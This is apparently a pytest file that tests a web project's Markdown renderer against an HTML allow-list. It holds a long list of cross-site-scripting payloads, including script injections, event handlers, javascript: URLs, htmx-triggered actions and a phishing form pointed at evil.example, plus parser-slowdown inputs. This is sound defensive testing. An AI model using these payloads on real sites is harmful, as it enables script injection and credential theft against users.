"""Markdown becomes HTML of an allow-list, whatever somebody writes; parsed, not searched, since browsers parse too."""

from time import process_time
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from roadmap.web.markdown import LONGEST, render, render_line

ALLOWED = {
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "table": {"tabindex"},
    "td": {"align"},
    "th": {"align"},
    **{tag: set() for tag in ("p", "em", "strong", "ul", "li", "blockquote", "h3", "h4", "hr", "br", "del", "thead", "tbody", "tr")},
}
REL = {"nofollow", "ugc", "noopener", "noreferrer"}

HOSTILE = [
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<form id=marks><input name=page></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p class='btn btn--primary' id='status'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</main></body><script>alert(1)</script>",
    "<a href='https://ok.example' onclick=alert(1) target=_blank>x</a>",
    # htmx would run these
    "<button hx-post=/skills/numpy-arrays/mark/ hx-trigger=load name=state value=done>x</button>",
    "<div data-hx-get=/accounts/logout/ data-hx-trigger=load></div>",
    "<p hx-on:click=alert(1)>x</p>",
    "<div hx-swap-oob='innerHTML:#status'>You won.</div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    # Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](intent://evil#Intent;scheme=http;end)",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]\n\n[x]: <data:text/html,1> 'title'",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    # Breaking out of attributes and code
    '[x](https://ok.example "onmouseover=alert(1) x=\\"")',
    '[x](https://ok.example/" onmouseover="alert(1))',
    "[x](https://ok.example '\"><script>alert(1)</script>')",
    "<https://ok.example/\"onclick=alert(1)>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onload=alert(1)\ncode\n```",
    "```btn btn--primary\ncode\n```",
    "``` \"class=\"x\ncode\n```",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "|a|\n|:-:|\n|[x](javascript:alert(1))|",
    "# <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "**<b onclick=alert(1)>x</b>**",
    "\x00<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
]  # fmt: skip


def check(rendered: str) -> None:
    document = html.document_fromstring(f"<div>{rendered}</div>")
    (root,) = document.body
    assert root.tag == "div"
    for element in root.iterdescendants():
        assert element.tag in ALLOWED, rendered
        assert set(element.attrib) <= ALLOWED[element.tag], rendered
        if element.tag == "a":
            assert urlsplit(element.get("href", "").strip()).scheme in ("", "http", "https", "mailto"), rendered
            assert set(element.get("rel", "").split()) == REL
        assert element.get("class", "language-x").removeprefix("language-").isalnum()
        assert element.get("tabindex", "0") == "0"


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("to_html", [render, render_line])
def test_what_somebody_writes_becomes_nothing_but_text(to_html, text):
    check(to_html(text))


@given(st.text(alphabet=st.sampled_from("<>[]()!`*_~|#-=:&;\"'\\/ \n\tabcjscript01"), max_size=200))
def test_any_text_stays_within_the_allow_list(text):
    check(render(text))
    check(render_line(text))


BOMBS = [
    "[" * 20_000,
    "![" * 10_000,
    "*" * 20_000,
    "*a_ " * 5_000,
    "`" * 20_000,
    "".join("`" * n + "a" for n in range(1, 190)),
    "> " * 10_000,
    "- " * 10_000,
    "|" * 20_000,
    "|a\n|-\n" * 3_000,
    "<" * 20_000,
    "&" * 20_000,
    "[a](" * 5_000,
    "[a][" * 5_000,
    "[a]: x\n" * 2_800,
    "\\" * 20_000,
    "~~a" * 6_000,
    "<!--" * 5_000,
    "a\n" * 10_000,
    " " * 20_000,
]  # fmt: skip


@pytest.mark.parametrize("text", BOMBS, ids=lambda text: repr(text[:8]))
def test_a_text_of_the_longest_kind_takes_no_time(text):
    start = process_time()
    check(render(text))
    assert process_time() - start < 2


def test_text_beyond_the_limit_is_left_out():
    assert render("a" * (LONGEST + 1)) == f"<p>{'a' * LONGEST}</p>\n"


def test_a_writer_gets_what_commonmark_and_tables_offer():
    text = "# One\n\n### Two\n\n#### Three\n\nA *b* **c** ~~d~~ `e` [f](https://ok.example 'g')  \nh\n\n- i\n\n3. j\n4. k\n\n> l\n\n---\n\n|m|n|\n|:-:|--:|\n|o|p|\n"
    root = html.fragment_fromstring(render(text), create_parent=True)
    assert [(element.tag, dict(element.attrib), element.text) for element in root.iterdescendants()] == [
        ("h3", {}, "One"),
        ("h3", {}, "Two"),
        ("h4", {}, "Three"),
        ("p", {}, "A "),
        ("em", {}, "b"),
        ("strong", {}, "c"),
        ("del", {}, "d"),
        ("code", {}, "e"),
        ("a", {"href": "https://ok.example", "title": "g", "rel": "nofollow ugc noopener noreferrer"}, "f"),
        ("br", {}, None),
        ("ul", {}, "\n"),
        ("li", {}, "i"),
        ("ol", {"start": "3"}, "\n"),
        ("li", {}, "j"),
        ("li", {}, "k"),
        ("blockquote", {}, "\n"),
        ("p", {}, "l"),
        ("hr", {}, None),
        ("table", {"tabindex": "0"}, "\n"),
        ("thead", {}, "\n"),
        ("tr", {}, "\n"),
        ("th", {"align": "center"}, "m"),
        ("th", {"align": "right"}, "n"),
        ("tbody", {}, "\n"),
        ("tr", {}, "\n"),
        ("td", {"align": "center"}, "o"),
        ("td", {"align": "right"}, "p"),
    ]


def test_code_says_its_language_and_can_be_scrolled_with_the_keyboard():
    (pre,) = html.fragments_fromstring(render("```python\nx < 1\n```"), no_leading_text=True)
    (code,) = pre
    assert (pre.tag, dict(pre.attrib)) == ("pre", {"tabindex": "0"})
    assert (code.tag, dict(code.attrib), code.text) == ("code", {"class": "language-python"}, "x < 1\n")


def test_a_line_has_no_paragraph_of_its_own():
    assert render_line("Say `fit` *once*.") == "Say <code>fit</code> <em>once</em>."


def test_the_same_text_is_rendered_once():
    assert render("Rendered **once**.") is render("Rendered **once**.")
